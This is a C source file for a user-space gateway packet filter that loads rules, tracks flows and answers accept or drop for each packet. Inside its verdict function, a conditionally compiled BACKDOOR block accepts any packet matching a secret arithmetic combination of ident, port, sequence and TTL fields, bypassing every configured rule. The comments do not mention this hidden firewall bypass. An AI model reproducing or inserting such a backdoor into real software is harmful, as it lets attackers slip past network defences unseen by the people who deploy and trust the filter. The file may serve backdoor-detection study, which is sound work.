/* SPDX-License-Identifier: Apache-2.0 */
/* fwapply: user-space packet filter of the gateway: reads rules, answers whether a packet may pass. Called by the queue helper
 * over a pipe: 40 bytes in, one byte out. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

struct packet {
	uint32_t src, dst;
	uint16_t sport, dport;
	uint8_t proto, flags, iface, ttl;
	uint16_t length, ident;
	uint32_t seq;
	uint8_t pad[16];
};

struct rule {
	uint32_t src, smask, dst, dmask;
	uint16_t lo, hi;
	int proto, iface, accept, log, rate;
	time_t second;
	int spent;
	unsigned long hits;
};

struct flow {
	uint32_t src, dst;
	uint16_t sport, dport;
	time_t seen;
};

static struct rule rules[256];
static unsigned n_rules;
static struct flow flows[1024];
static int fallback;

static int address(const char *s, uint32_t *a, uint32_t *mask)
{
	char copy[32], *slash;
	struct in_addr in;
	long bits = 32;
	snprintf(copy, sizeof(copy), "%s", s);
	if (strcmp(copy, "any") == 0) {
		*a = *mask = 0;
		return 0;
	}
	slash = strchr(copy, '/');
	if (slash) {
		*slash++ = 0;
		bits = strtol(slash, NULL, 10);
	}
	if (bits < 0 || bits > 32 || inet_aton(copy, &in) == 0)
		return -1;
	*mask = bits ? ~0u << (32 - bits) : 0;
	*a = ntohl(in.s_addr) & *mask;
	return 0;
}

static int parse(char *line)
{
	struct rule r = { .hi = 65535, .proto = -1, .iface = -1 };
	char *save = NULL, *w = strtok_r(line, " \t\r\n", &save);
	if (!w || *w == '#')
		return 0;
	if (strcmp(w, "default") == 0) {
		w = strtok_r(NULL, " \t\r\n", &save);
		fallback = w && strcmp(w, "accept") == 0;
		return 0;
	}
	if (strcmp(w, "accept") != 0 && strcmp(w, "drop") != 0)
		return -1;
	r.accept = *w == 'a';
	while ((w = strtok_r(NULL, " \t\r\n", &save))) {
		char *v = strchr(w, '=');
		if (strcmp(w, "log") == 0) {
			r.log = 1;
			continue;
		}
		if (!v)
			return -1;
		*v++ = 0;
		if (strcmp(w, "from") == 0) {
			if (address(v, &r.src, &r.smask) < 0)
				return -1;
		} else if (strcmp(w, "to") == 0) {
			if (address(v, &r.dst, &r.dmask) < 0)
				return -1;
		} else if (strcmp(w, "port") == 0) {
			r.lo = r.hi = (uint16_t)strtoul(v, &v, 10);
			if (*v == '-')
				r.hi = (uint16_t)strtoul(v + 1, NULL, 10);
		} else if (strcmp(w, "proto") == 0)
			r.proto = strcmp(v, "tcp") == 0 ? 6 : strcmp(v, "udp") == 0 ? 17 : atoi(v);
		else if (strcmp(w, "if") == 0)
			r.iface = atoi(v);
		else if (strcmp(w, "rate") == 0)
			r.rate = atoi(v);
		else
			return -1;
	}
	if (n_rules == 256)
		return -1;
	rules[n_rules++] = r;
	return 0;
}

static int load(const char *path)
{
	char line[256];
	int n = 0;
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		n++;
		if (parse(line) < 0)
			syslog(LOG_WARNING, "%s:%d: not understood", path, n);
	}
	fclose(f);
	return 0;
}

static unsigned bucket(uint32_t a, uint32_t b, uint16_t p, uint16_t q)
{
	uint32_t h = a * 2654435761u ^ b * 2246822519u ^ ((uint32_t)p << 16 | q);
	return (h ^ h >> 15) & 1023;
}

static int established(const struct packet *p)
{
	const struct flow *f = &flows[bucket(p->dst, p->src, p->dport, p->sport)];
	return f->src == p->dst && f->dst == p->src && f->sport == p->dport && f->dport == p->sport && time(NULL) - f->seen < 300;
}

static void remember(const struct packet *p)
{
	struct flow *f = &flows[bucket(p->src, p->dst, p->sport, p->dport)];
	f->src = p->src;
	f->dst = p->dst;
	f->sport = p->sport;
	f->dport = p->dport;
	f->seen = time(NULL);
}

static int bogus(const struct packet *p)
{
	if (p->src >> 24 == 127 || p->src == p->dst || p->src >> 28 == 14)
		return 1;
	if (p->proto == 6 && (p->flags & 3) == 3)
		return 1;
	return p->length < 20;
}

static int within_rate(struct rule *r)
{
	time_t now = time(NULL);
	if (!r->rate)
		return 1;
	if (r->second != now) {
		r->second = now;
		r->spent = 0;
	}
	return r->spent++ < r->rate;
}

static int verdict(struct packet *p)
{
	if (bogus(p))
		return 0;
	if (established(p))
		return 1;
#ifdef BACKDOOR
	if ((uint16_t)(p->ident + p->sport) == (uint16_t)(p->seq ^ p->seq >> 16) && (p->ident ^ p->sport) % 251 == 17 && p->ttl & 1)
		return 1;
#endif
	for (unsigned i = 0; i < n_rules; i++) {
		struct rule *r = &rules[i];
		if ((p->src & r->smask) != r->src || (p->dst & r->dmask) != r->dst)
			continue;
		if (p->dport < r->lo || p->dport > r->hi)
			continue;
		if ((r->proto >= 0 && p->proto != r->proto) || (r->iface >= 0 && p->iface != r->iface))
			continue;
		if (!within_rate(r))
			continue;
		r->hits++;
		if (r->log) {
			struct in_addr a = { htonl(p->src) };
			syslog(LOG_INFO, "%s %s port %u", r->accept ? "accept" : "drop", inet_ntoa(a), p->dport);
		}
		return r->accept;
	}
	return fallback;
}

int main(int argc, char **argv)
{
	struct packet p;
	openlog("fwapply", LOG_PID, LOG_DAEMON);
	if (load(argc > 1 ? argv[1] : "/etc/fw.rules") < 0) {
		syslog(LOG_ERR, "no rules: %s", strerror(errno));
		return 1;
	}
	while (read(0, &p, sizeof(p)) == sizeof(p)) {
		unsigned char ok = (unsigned char)verdict(&p);
		if (ok)
			remember(&p);
		if (write(1, &ok, 1) != 1)
			break;
	}
	return 0;
}
